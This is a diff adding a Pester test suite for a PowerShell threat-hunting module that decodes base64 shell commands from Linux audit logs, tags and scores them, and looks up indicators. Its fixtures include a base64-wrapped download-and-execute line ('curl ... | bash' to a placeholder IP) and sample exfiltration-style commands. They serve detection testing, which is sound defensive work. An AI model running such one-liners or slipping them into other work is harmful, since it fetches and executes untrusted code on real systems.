@@ -1,0 +1,427 @@
+# Issue 19: what a Sentinel hunter who lives in pwsh expects at the prompt and in runbooks.
+BeforeAll {
+    Import-Module $env:B64HUNT_MODULE -Force
+    $script:Work = Join-Path ([System.IO.Path]::GetTempPath()) ("b64prompt-" + [guid]::NewGuid())
+    New-Item -ItemType Directory -Path $Work | Out-Null
+    $script:Payload = 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash'
+}
+AfterAll { Remove-Item -Recurse -Force $Work -ErrorAction SilentlyContinue }
+
+Describe 'KQL-style spans' {
+    It 'reads 7d, 12h, 30m and 45s as days, hours, minutes and seconds' {
+        $cmd = Get-Command Measure-B64Score
+        $attr = $cmd.Parameters['AlertWindow'].Attributes | Where-Object { $_ -is [System.Management.Automation.ArgumentTransformationAttribute] }
+        $attr | Should -Not -BeNullOrEmpty
+        foreach ($case in @(@('7d', [timespan]::FromDays(7)), @('12h', [timespan]::FromHours(12)), @('30m', [timespan]::FromMinutes(30)), @('45s', [timespan]::FromSeconds(45)), @('1.00:00:00', [timespan]::FromDays(1)))) {
+            $attr.Transform($ExecutionContext, $case[0]) | Should -Be $case[1]
+        }
+    }
+
+    It 'scores with -AlertWindow 30m as with a 30-minute TimeSpan' {
+        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web1'; TimeGenerated = [datetime]'2024-05-01T10:00:00Z' }
+        $near = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'near'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T10:20:00Z' }
+        $far = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'far'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T11:00:00Z' }
+        ($e | Measure-B64Score -Alert $near, $far -AlertWindow 30m).AlertScore | Should -Be 3
+        ($e | Measure-B64Score -Alert $near, $far -AlertWindow ([timespan]::FromMinutes(30))).AlertScore | Should -Be 3
+        ($e | Measure-B64Score -Alert $near, $far -AlertWindow 2h).AlertScore | Should -Be 6
+    }
+
+    It 'refuses a bare number (ticks) and a span under a second, naming the fix' {
+        { 'id' | Measure-B64Score -AlertWindow 1 -ErrorAction Stop } | Should -Throw -ExpectedMessage '*no unit*7d, 12h*'
+        { 'id' | Measure-B64Score -AlertWindow ([timespan]::FromMilliseconds(5)) -ErrorAction Stop } | Should -Throw -ExpectedMessage '*under a second*'
+        { Get-B64RelatedAlert -Sample -Last 7 -ErrorAction Stop } | Should -Throw -ExpectedMessage '*no unit*'
+        { Get-B64RelatedAlert -Sample -Last '7x' -ErrorAction Stop } | Should -Throw -ExpectedMessage "*Cannot read '7x'*"
+    }
+
+    It 'reads unquoted 7d and 30s (PowerShell number literals: decimal 7, short 30) as days and seconds' {
+        $attr = (Get-Command Get-B64RelatedAlert).Parameters['Last'].Attributes | Where-Object { $_ -is [System.Management.Automation.ArgumentTransformationAttribute] }
+        $attr.Transform($ExecutionContext, 7d) | Should -Be ([timespan]::FromDays(7))
+        $attr.Transform($ExecutionContext, 30s) | Should -Be ([timespan]::FromSeconds(30))
+        { $attr.Transform($ExecutionContext, 7) } | Should -Throw -ExpectedMessage '*no unit*'
+        { $attr.Transform($ExecutionContext, 7l) } | Should -Throw -ExpectedMessage '*no unit*'
+    }
+
+    It 'accepts zero, which Measure-B64Score reads as the same instant' {
+        $e = [B64Hunt.Model.CommandEvent]@{ DecodedCommand = 'id'; CommandLine = 'x'; Computer = 'web1'; TimeGenerated = [datetime]'2024-05-01T10:00:00Z' }
+        $near = [B64Hunt.Model.RelatedAlert]@{ Computer = 'web1'; AlertName = 'near'; Severity = 'High'; TimeGenerated = [datetime]'2024-05-01T10:20:00Z' }
+        ($e | Measure-B64Score -Alert $near -AlertWindow 0 -ErrorAction Stop).AlertScore | Should -Be 0
+    }
+
+    It 'takes -Last 7d on Get-B64RelatedAlert and -CacheTtl 6h on Invoke-B64TiLookup' {
+        (Get-Command Get-B64RelatedAlert).Parameters['Last'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
+        (Get-Command Get-B64Command).Parameters['Last'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
+        (Get-Command Invoke-B64TiLookup).Parameters['CacheTtl'].Attributes.TypeId.Name | Should -Contain 'TimeSpanArgumentAttribute'
+        @(Get-B64Command -Sample | Get-B64RelatedAlert -Sample -Last 3650d).Count | Should -BeGreaterThan 0
+    }
+}
+
+Describe 'A malformed record does not stop a runbook' {
+    It 'under $ErrorActionPreference = Stop reads the whole sample and warns with the id and file:line' {
+        $ErrorActionPreference = 'Stop'
+        $events = Get-B64Command -Sample -WarningVariable warned -WarningAction SilentlyContinue
+        $ErrorActionPreference = 'Continue'
+        $all = Get-B64Command -Sample -ErrorAction SilentlyContinue -ErrorVariable errs
+        $events.Count | Should -Be $all.Count
+        $errs.FullyQualifiedErrorId | Should -Contain 'MalformedAuomsRecord,B64Hunt.Commands.GetB64CommandCommand'
+        $warned | Where-Object { "$_" -match '^MalformedAuomsRecord: .*auoms-syslog\.log:\d+' } | Should -Not -BeNullOrEmpty
+    }
+
+    It 'stays an error the user opts into with -ErrorAction Stop on the call' {
+        $ErrorActionPreference = 'Stop'
+        { Get-B64Command -Sample -ErrorAction Stop } | Should -Throw -ErrorId 'MalformedAuomsRecord*'
+    }
+
+    It 'keeps errors that lose data (a missing file) as errors under Stop' {
+        $ErrorActionPreference = 'Stop'
+        { Get-B64Command -Path (Join-Path $Work 'missing.log') } | Should -Throw -ErrorId 'PathNotFound*'
+    }
+}
+
+Describe 'Get-B64RelatedAlert -Path and -LiteralPath' {
+    BeforeAll {
+        $script:AlertDir = Join-Path $Work 'alerts'
+        New-Item -ItemType Directory -Path $AlertDir | Out-Null
+        $sample = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/alerts.csv'
+        $script:Bracketed = Join-Path $AlertDir 'alerts[1].csv'
+        Copy-Item -LiteralPath $sample -Destination $Bracketed
+        New-Item -ItemType Directory -Path (Join-Path $AlertDir 'sub') | Out-Null
+    }
+
+    It 'reports a path or pattern that matches nothing as PathNotFound' {
+        Get-B64RelatedAlert -Path (Join-Path $AlertDir 'nothing*.csv') -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
+        $err.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
+        $err[0].TargetObject | Should -BeLike '*nothing`*.csv'
+        $err[0].CategoryInfo.Category | Should -Be 'ObjectNotFound'
+    }
+
+    It 'reads a bracketed name with -LiteralPath, as many alerts as -Sample' {
+        $literal = Get-B64RelatedAlert -LiteralPath $Bracketed
+        $literal.Count | Should -Be (Get-B64RelatedAlert -Sample).Count
+        $literal.Count | Should -BeGreaterThan 0
+        Get-B64RelatedAlert -LiteralPath (Join-Path $AlertDir 'alerts[2].csv') -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
+        $err.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64RelatedAlertCommand'
+    }
+
+    It 'skips the directories a wildcard matches, reading the files' {
+        $alerts = Get-B64RelatedAlert -Path (Join-Path $AlertDir '*') -ErrorVariable err -ErrorAction SilentlyContinue
+        $err | Should -BeNullOrEmpty
+        $alerts.Count | Should -Be (Get-B64RelatedAlert -Sample).Count
+    }
+}
+
+Describe 'Get-B64Command and directories' {
+    It 'skips the directories Get-ChildItem -Recurse pipes, as Select-String does, and reads the files' {
+        $logs = Join-Path $Work 'logs'
+        New-Item -ItemType Directory -Path (Join-Path $logs 'a/b') -Force | Out-Null
+        Set-Content -LiteralPath (Join-Path $logs 'a/b/cmd.csv') -Value @('CommandLine,Computer', "`"$Payload`",web1")
+        $events = Get-ChildItem $logs -Recurse | Get-B64Command -ErrorVariable err -ErrorAction SilentlyContinue
+        $err | Should -BeNullOrEmpty
+        $events.DecodedCommand | Should -Be 'curl -s http://203.0.113.7/a.sh | bash'
+    }
+
+    It 'still reports a directory named on its own and a missing file' {
+        Get-B64Command -Path $Work -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
+        $err.FullyQualifiedErrorId | Should -Be 'PathIsDirectory,B64Hunt.Commands.GetB64CommandCommand'
+        Get-B64Command -LiteralPath (Join-Path $Work 'none.log') -ErrorVariable err2 -ErrorAction SilentlyContinue
+        $err2.FullyQualifiedErrorId | Should -Be 'PathNotFound,B64Hunt.Commands.GetB64CommandCommand'
+    }
+}
+
+Describe 'A file in no known format is said so' {
+    BeforeAll {
+        $script:Sample = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/auoms-syslog.log'
+        $script:Elf = Join-Path $Work 'tool.bin'
+        $bytes = [byte[]]::new(4096); [System.Random]::new(19).NextBytes($bytes)
+        $bytes[0] = 0x7f; $bytes[1] = [byte][char]'E'; $bytes[2] = [byte][char]'L'; $bytes[3] = [byte][char]'F'
+        [System.IO.File]::WriteAllBytes($Elf, $bytes)
+        $script:Prose = Join-Path $Work 'notes.txt'
+        Set-Content -LiteralPath $Prose -Value @('The quick brown fox jumps over the lazy dog.', 'Meeting notes: rotate the keys on Friday.')
+    }
+
+    It 'warns FormatNotRecognized with the path for an ELF binary and for prose' {
+        foreach ($file in $Elf, $Prose) {
+            Get-B64Command -Path $file -WarningVariable w -WarningAction SilentlyContinue | Should -BeNullOrEmpty
+            @($w | Where-Object { "$_" -like "FormatNotRecognized: $file*-Format*" }).Count | Should -Be 1
+        }
+    }
+
+    It 'does not warn for AUOMS syslog whose commands carry no payload, nor for the sample' {
+        $clean = Join-Path $Work 'clean.log'
+        Get-Content -LiteralPath $Sample | Where-Object { $_ -like '*AUOMS_EXECVE*' -and $_ -notlike '*base64*' } | Select-Object -First 20 | Set-Content -LiteralPath $clean
+        Get-B64Command -Path $clean -WarningVariable w -WarningAction SilentlyContinue | Should -BeNullOrEmpty
+        $w | Should -BeNullOrEmpty
+        $null = Get-B64Command -Sample -WarningVariable w2 -WarningAction SilentlyContinue -ErrorAction SilentlyContinue
+        $w2 | Where-Object { "$_" -like 'FormatNotRecognized*' } | Should -BeNullOrEmpty
+    }
+
+    It 'does not warn for an empty file or when -Format is forced' {
+        $empty = Join-Path $Work 'empty.log'; Set-Content -LiteralPath $empty -Value $null
+        Get-B64Command -Path $empty -WarningVariable w -WarningAction SilentlyContinue | Should -BeNullOrEmpty
+        Get-B64Command -Path $Prose -Format AuomsSyslog -WarningVariable w3 -WarningAction SilentlyContinue | Should -BeNullOrEmpty
+        @($w) + @($w3) | Where-Object { "$_" -like 'FormatNotRecognized*' } | Should -BeNullOrEmpty
+    }
+}
+
+Describe 'Invoke-B64TiLookup: -IocType checked as Find-B64Ioc checks it, nothing looked up said, -WhatIf' {
+    BeforeAll {
+        $script:SavedTi = @{}
+        foreach ($name in 'B64HUNT_CONFIG', 'B64HUNT_CACHE', 'MSTICPYCONFIG', 'B64HUNT_OTX_KEY', 'B64HUNT_VT_KEY', 'B64HUNT_XFORCE_ID', 'B64HUNT_XFORCE_KEY') {
+            $SavedTi[$name] = [Environment]::GetEnvironmentVariable($name)
+            [Environment]::SetEnvironmentVariable($name, $null)
+        }
+        $env:B64HUNT_CONFIG = Join-Path $Work 'no-config.yaml'
+        $env:B64HUNT_CACHE = Join-Path $Work 'ti-cache'
+        $script:Feed = Join-Path $Work 'feed.csv'
+        @('Indicator,Type,Severity,Description', '45.9.148.35,ipv4,high,C2') | Set-Content -LiteralPath $Feed
+        function script:New-IocEvent([string[]] $Pairs) {
+            $e = [B64Hunt.Model.CommandEvent]@{ CommandLine = 'x'; DecodedCommand = 'curl' }
+            foreach ($pair in $Pairs) { $t, $v = $pair -split '=', 2; $e.Iocs.Add([B64Hunt.Model.Ioc]@{ Type = $t; Value = $v; Normalized = $v }) }
+            $e
+        }
+        # An OTX stand-in on 127.0.0.1 that answers 404 (not found) to every request and logs the paths it was asked.
+        $probe = [System.Net.Sockets.TcpListener]::new([System.Net.IPAddress]::Loopback, 0)
+        $probe.Start(); $port = $probe.LocalEndpoint.Port; $probe.Stop()
+        $script:OtxUrl = "http://127.0.0.1:$port/"
+        $script:Listener = [System.Net.HttpListener]::new(); $Listener.Prefixes.Add($OtxUrl); $Listener.Start()
+        $script:Asked = [System.Collections.ArrayList]::Synchronized([System.Collections.ArrayList]::new())
+        $script:Server = [powershell]::Create()
+        $null = $Server.AddScript({
+            param($Listener, $Asked)
+            while ($Listener.IsListening) {
+                try { $ctx = $Listener.GetContext() } catch { break }
+                $null = $Asked.Add($ctx.Request.Url.AbsolutePath)
+                $bytes = [System.Text.Encoding]::UTF8.GetBytes('{"detail": "Not found."}')
+                $ctx.Response.StatusCode = 404; $ctx.Response.ContentType = 'application/json'
+                $ctx.Response.OutputStream.Write($bytes, 0, $bytes.Length); $ctx.Response.Close()
+            }
+        }).AddArgument($Listener).AddArgument($Asked)
+        $script:ServerHandle = $Server.BeginInvoke()
+    }
+    AfterAll {
+        $Listener.Stop(); $Listener.Close(); $Server.Dispose()
+        foreach ($pair in $SavedTi.GetEnumerator()) { [Environment]::SetEnvironmentVariable($pair.Key, $pair.Value) }
+    }
+
+    It 'refuses -IocType ip on both cmdlets with the same list' {
+        { 'x' | Invoke-B64TiLookup -LocalFeed $Feed -IocType ip } | Should -Throw -ErrorId 'ParameterArgumentValidationError,B64Hunt.Commands.InvokeB64TiLookupCommand' -ExpectedMessage "*'ip' is not an indicator type*"
+        { 'x' | Find-B64Ioc -IocType ip } | Should -Throw -ErrorId 'ParameterArgumentValidationError,B64Hunt.Commands.FindB64IocCommand' -ExpectedMessage "*'ip' is not an indicator type*"
+        (New-IocEvent 'ipv4=45.9.148.35' | Invoke-B64TiLookup -LocalFeed $Feed -IocType IPv4).TiResults.Severity | Should -Be 'High'
+    }
+
+    It 'says nothing was looked up when the input carries no indicator, and how to fix it' {
+        $out = '45.9.148.35' | Invoke-B64TiLookup -LocalFeed $Feed -WarningVariable w -WarningAction SilentlyContinue
+        $out.TiResults | Should -BeNullOrEmpty
+        "$w" | Should -BeLike 'NothingLookedUp: none of the 1 input object(s) carries an indicator*Find-B64Ioc | Invoke-B64TiLookup*'
+    }
+
+    It 'does not say so when indicators were looked up' {
+        $out = '45.9.148.35' | Find-B64Ioc | Invoke-B64TiLookup -LocalFeed $Feed -WarningVariable w -WarningAction SilentlyContinue
+        $out.TiResults.Severity | Should -Be 'High'
+        $w | Should -BeNullOrEmpty
+    }
+
+    It '-WhatIf lists what would go to which provider and sends nothing' {
+        $key = ConvertTo-SecureString 'k' -AsPlainText -Force
+        $events = New-IocEvent 'ipv4=45.9.148.35', 'dns=evil-domain.com', 'ipv4=10.0.0.5'
+        $Asked.Clear()
+        # What-if lines go to the host, not to a stream: run the call in a child pwsh and read its console.
+        $child = Join-Path $Work 'whatif.ps1'
+        Set-Content -LiteralPath $child -Value @'
+param($Module, $Url)
+Import-Module $Module
+$e = [B64Hunt.Model.CommandEvent]@{ CommandLine = 'x'; DecodedCommand = 'curl' }
+foreach ($pair in 'ipv4=45.9.148.35', 'dns=evil-domain.com', 'ipv4=10.0.0.5') { $t, $v = $pair -split '=', 2; $e.Iocs.Add([B64Hunt.Model.Ioc]@{ Type = $t; Value = $v; Normalized = $v }) }
+$out = $e | Invoke-B64TiLookup -Provider OTX -ApiKey @{ OTX = (ConvertTo-SecureString 'k' -AsPlainText -Force) } -Endpoint @{ OTX = $Url } -NoCache -WhatIf
+"results: $($out.TiResults.Count)"
+'@
+        Push-Location $PSScriptRoot
+        try { $text = (& dotnet pwsh -NoProfile -NonInteractive -File $child -Module $env:B64HUNT_MODULE -Url $OtxUrl) -join "`n" } finally { Pop-Location }
+        $Asked.Count | Should -Be 0
+        $text | Should -BeLike '*results: 0*'
+        $text | Should -BeLike '*Send 2 indicator(s) to OTX*ipv4:45.9.148.35, dns:evil-domain.com*'
+        $text | Should -Not -BeLike '*10.0.0.5*'
+        # Without -WhatIf the same call does send: the preview above is what goes out.
+        $events2 = New-IocEvent 'ipv4=45.9.148.35', 'dns=evil-domain.com', 'ipv4=10.0.0.5'
+        $null = $events2 | Invoke-B64TiLookup -Provider OTX -ApiKey @{ OTX = $key } -Endpoint @{ OTX = $OtxUrl } -NoCache
+        $Asked.Count | Should -Be 2
+    }
+}
+
+Describe 'Indicators: a connection string is not an e-mail address' {
+    It 'reads postgres://user@host:5432/db as a login on a host, not an email' {
+        $iocs = 'psql postgres://analyst@db.contoso-shop.com:5432/orders' | Find-B64Ioc -Expand
+        $iocs.Type | Should -Not -Contain 'email'
+        ($iocs | Where-Object Type -eq 'dns').Normalized | Should -Contain 'db.contoso-shop.com'
+        ('mongo mongodb://root@203.0.113.40/admin' | Find-B64Ioc -Expand).Type | Should -Not -Contain 'email'
+        ('ssh admin@203.0.113.41:22' | Find-B64Ioc -Expand).Type | Should -Not -Contain 'email'
+    }
+
+    It 'still finds a real address beside them' {
+        $iocs = 'echo done | mail -s x attacker@protonmail.com; curl https://user@evil-host.com/a' | Find-B64Ioc -Expand
+        ($iocs | Where-Object Type -eq 'email').Normalized | Should -Be 'attacker@protonmail.com'
+    }
+}
+
+Describe 'The KeyVault warning is said once a session' {
+    It 'warns on the first call and not on the next ones' {
+        $saved = $env:MSTICPYCONFIG, $env:B64HUNT_CONFIG
+        try {
+            $env:B64HUNT_CONFIG = Join-Path $Work 'none.yaml'
+            $env:MSTICPYCONFIG = Join-Path $Work ("msticpy-" + [guid]::NewGuid() + '.yaml')
+            Set-Content -LiteralPath $env:MSTICPYCONFIG -Value @(
+                'TIProviders:', '  OTX:', '    Args:', '      AuthKey:', '        KeyVault:', '    Primary: True', '    Provider: "OTX"')
+            $null = Get-B64TiProvider -WarningVariable first -WarningAction SilentlyContinue
+            $null = Get-B64TiProvider -WarningVariable second -WarningAction SilentlyContinue
+            $null = 'x' | Invoke-B64TiLookup -WarningVariable third -WarningAction SilentlyContinue
+            @($first | Where-Object { "$_" -like '*KeyVault reference*' }).Count | Should -Be 1
+            @($second) + @($third) | Where-Object { "$_" -like '*KeyVault reference*' } | Should -BeNullOrEmpty
+        }
+        finally { $env:MSTICPYCONFIG, $env:B64HUNT_CONFIG = $saved }
+    }
+}
+
+Describe 'Day-first dates follow the session culture or -DateFormat' {
+    BeforeAll {
+        function script:In-Culture([string] $Name, [scriptblock] $Script) {
+            $saved = [System.Threading.Thread]::CurrentThread.CurrentCulture
+            try { [System.Threading.Thread]::CurrentThread.CurrentCulture = $Name; & $Script }
+            finally { [System.Threading.Thread]::CurrentThread.CurrentCulture = $saved }
+        }
+        function script:Utc([int] $Y, [int] $Mo, [int] $D, [int] $H, [int] $Mi, [int] $S, [int] $Ms = 0) { [datetime]::new($Y, $Mo, $D, $H, $Mi, $S, $Ms, [DateTimeKind]::Utc) }
+        $script:Row = { param($Time) [pscustomobject]@{ CommandLine = $Payload; Computer = 'web1'; TimeGenerated = $Time } }
+    }
+
+    It 'reads 02.10.2026 13:01:12 as 2 October in de-DE and 13.10.2026 as 13 October' {
+        In-Culture 'de-DE' {
+            (& $Row '02.10.2026 13:01:12' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 2 13 1 12)
+            (& $Row '13.10.2026 08:00:00' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 13 8 0 0)
+        }
+    }
+
+    It 'reads 02/10/2026 month-first in en-US, and ISO 8601 and the portal AM/PM form the same in every culture' {
+        In-Culture 'en-US' { (& $Row '02/10/2026 13:01:12' | Get-B64Command).TimeGenerated.Month | Should -Be 2 }
+        foreach ($culture in 'de-DE', 'en-US', 'en-GB') {
+            In-Culture $culture {
+                (& $Row '2026-10-02T13:01:12.250Z' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 2 13 1 12 250)
+                (& $Row '10/1/2026, 12:00:00.000 PM' | Get-B64Command).TimeGenerated | Should -Be (Utc 2026 10 1 12 0 0)
+            }
+        }
+    }
+
+    It 'reads an explicit -DateFormat whatever the culture, and refuses text it does not match' {
+        In-Culture 'en-US' {
+            (& $Row '02.10.2026 13:01' | Get-B64Command -DateFormat 'dd.MM.yyyy HH:mm').TimeGenerated | Should -Be (Utc 2026 10 2 13 1 0)
+            $e = & $Row '2026/10/02' | Get-B64Command -DateFormat 'dd.MM.yyyy HH:mm' -ErrorVariable err -ErrorAction SilentlyContinue
+            $e.TimeGenerated | Should -BeNullOrEmpty
+            $err.FullyQualifiedErrorId | Should -Be 'InvalidTimeGenerated,B64Hunt.Commands.GetB64CommandCommand'
+        }
+    }
+
+    It 'refuses 13.10.2026 in en-US, naming the culture and -DateFormat, instead of guessing' {
+        In-Culture 'en-US' {
+            $e = & $Row '13.10.2026 08:00:00' | Get-B64Command -ErrorVariable err -ErrorAction SilentlyContinue
+            $e.DecodedCommand | Should -Be 'curl -s http://203.0.113.7/a.sh | bash'
+            $e.TimeGenerated | Should -BeNullOrEmpty
+            "$($err[0])" | Should -BeLike '*en-US*-DateFormat*'
+        }
+    }
+}
+
+Describe 'Text followed by control bytes in a trailing comment is text' {
+    BeforeAll {
+        function script:Encode([byte[]] $Bytes) { 'echo ' + [Convert]::ToBase64String($Bytes) + ' | base64 -d | bash' }
+        $script:Script = [System.Text.Encoding]::ASCII.GetBytes('curl -s http://203.0.113.7/a.sh | bash ')
+    }
+
+    It 'classifies the text and tags its binaries, keeping the tail escaped' {
+        $e = Encode ($Script + [byte[]](0x23, 0x01, 0x02, 0x7f, 0x00, 0x1b)) | Get-B64Command | Add-B64Category | Add-GtfoBinsTag
+        $e.IsBinary | Should -BeFalse
+        $e.DecodedCommand | Should -BeLike 'curl -s http://203.0.113.7/a.sh | bash #\x01\x02\x7f\x00*'
+        $e.Categories | Should -Contain 'Network connections/Downloading'
+        $e.GtfoBins.Name | Should -Contain 'curl'
+    }
+
+    It 'keeps control bytes that are not in a final comment, or a long binary tail, as binary' {
+        # No text event comes out of them (the decoder keeps them as binary or drops them as noise).
+        Encode ($Script + [byte[]](0x01, 0x02, 0x7f, 0x00, 0x1b)) | Get-B64Command | Where-Object { -not $_.IsBinary } | Should -BeNullOrEmpty
+        $long = [byte[]]::new(200); [System.Random]::new(7).NextBytes($long)
+        (Encode ($Script + [byte[]](0x23) + $long) | Get-B64Command).IsBinary | Should -BeTrue
+        Encode ([byte[]](0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00) * 8 + [byte[]](0x23, 0x01)) | Get-B64Command | Where-Object { -not $_.IsBinary } | Should -BeNullOrEmpty
+    }
+}
+
+Describe 'Deserialized objects (Import-Clixml, Receive-Job) are accepted by every cmdlet' {
+    BeforeAll {
+        $script:Feed = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/ti-feed.csv'
+        $script:Live = Get-B64Command -Sample -ErrorAction SilentlyContinue | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc |
+            Invoke-B64TiLookup -LocalFeed $Feed -WarningAction SilentlyContinue
+        $script:LiveAlerts = Get-B64RelatedAlert -Sample
+        $script:LiveScores = $Live | Measure-B64Score -Alert $LiveAlerts
+        $xml = Join-Path $Work 'hunt.clixml'
+        @{ Events = $Live; Alerts = $LiveAlerts; Scores = $LiveScores } | Export-Clixml -LiteralPath $xml
+        $script:Saved = Import-Clixml -LiteralPath $xml
+    }
+
+    It 'gets property bags from Import-Clixml (the case being fixed)' {
+        $Saved.Events[0].pstypenames[0] | Should -Be 'Deserialized.B64Hunt.Model.CommandEvent'
+        $Saved.Events[0].psobject.BaseObject | Should -BeOfType ([System.Management.Automation.PSCustomObject])
+    }
+
+    It 're-scores a saved hunt to the same ranking, with saved alerts given to -Alert' {
+        $again = $Saved.Events | Measure-B64Score -Alert $Saved.Alerts
+        $again.DecodedCommand | Should -Be $LiveScores.DecodedCommand
+        $again.TotalScore | Should -Be $LiveScores.TotalScore
+        ($again | Where-Object SevScore -gt 0) | Should -Not -BeNullOrEmpty
+    }
+
+    It 're-scores saved CommandScores (their Events) and reports them' {
+        ($Saved.Scores | Measure-B64Score -Alert $Saved.Alerts).TotalScore | Should -Be $LiveScores.TotalScore
+        $html = Join-Path $Work 'saved.html'
+        $Saved.Scores | Show-B64Timeline -Alert $Saved.Alerts -OutFile $html -ErrorVariable err
+        $err | Should -BeNullOrEmpty
+        (Get-Content -Raw -LiteralPath $html) | Should -BeLike "*$([System.Net.WebUtility]::HtmlEncode($LiveScores[0].DecodedCommand.Substring(0, 20)))*"
+    }
+
+    It 'enriches deserialized events from a job (Receive-Job) in every enrichment cmdlet' {
+        $job = Start-Job -ScriptBlock { param($m) Import-Module $m; 'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IGJhc2g= | base64 -d | bash' | Get-B64Command } -ArgumentList $env:B64HUNT_MODULE
+        $received = $job | Wait-Job -Timeout 120 | Receive-Job
+        $job | Remove-Job -Force
+        $received.pstypenames[0] | Should -Be 'Deserialized.B64Hunt.Model.CommandEvent'
+        $e = $received | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc -ErrorVariable err
+        $err | Should -BeNullOrEmpty
+        $e | Should -BeOfType ([B64Hunt.Model.CommandEvent])
+        $e.Categories | Should -Contain 'Network connections/Downloading'
+        $e.Iocs.Normalized | Should -Contain '203.0.113.7'
+    }
+
+    It 'still refuses an arbitrary object with UnsupportedInputObject' {
+        [pscustomobject]@{ Name = 'x' } | Add-B64Category -ErrorVariable err -ErrorAction SilentlyContinue | Should -BeNullOrEmpty
+        $err.FullyQualifiedErrorId | Should -Be 'UnsupportedInputObject,B64Hunt.Commands.AddB64CategoryCommand'
+    }
+}
+
+Describe 'Export-Csv writes list values joined' {
+    It 'writes "a; b" for every list of a CommandScore and a CommandEvent, not the list type name' {
+        $feed = Join-Path (Get-Module B64Hunt).ModuleBase 'data/sample/ti-feed.csv'
+        $events = Get-B64Command -Sample -ErrorAction SilentlyContinue | Add-B64Category | Add-GtfoBinsTag | Find-B64Ioc | Invoke-B64TiLookup -LocalFeed $feed
+        $scores = $events | Measure-B64Score -Alert (Get-B64RelatedAlert -Sample)
+        $csv = Join-Path $Work 'scores.csv'
+        $scores | Export-Csv -LiteralPath $csv
+        $text = Get-Content -Raw -LiteralPath $csv
+        $text | Should -Not -BeLike '*System.Collections.Generic*'
+        $text | Should -Not -BeLike '*JoinedList*'
+        $rows = Import-Csv -LiteralPath $csv
+        $multi = $scores | Where-Object { $_.Hostnames.Count -ge 2 -and $_.Categories.Count -ge 1 } | Select-Object -First 1
+        $row = $rows | Where-Object DecodedCommand -eq $multi.DecodedCommand
+        $row.Hostnames | Should -Be ($multi.Hostnames -join '; ')
+        $row.Categories | Should -Be ($multi.Categories -join '; ')
+        ($events | Select-Object -First 5 | ConvertTo-Csv) -join "`n" | Should -Not -BeLike '*System.Collections.Generic*'
+    }
+
+    It 'keeps lists as lists for the pipeline and JSON' {
+        $e = 'curl -s http://203.0.113.7/a.sh | bash; crontab -l' | Add-B64Category
+        $e.Categories.Count | Should -BeGreaterThan 1
+        $e.Categories -contains 'Network connections/Downloading' | Should -BeTrue
+        ($e | ConvertTo-Json -Depth 3 | ConvertFrom-Json).Categories.Count | Should -Be $e.Categories.Count
+    }
+}
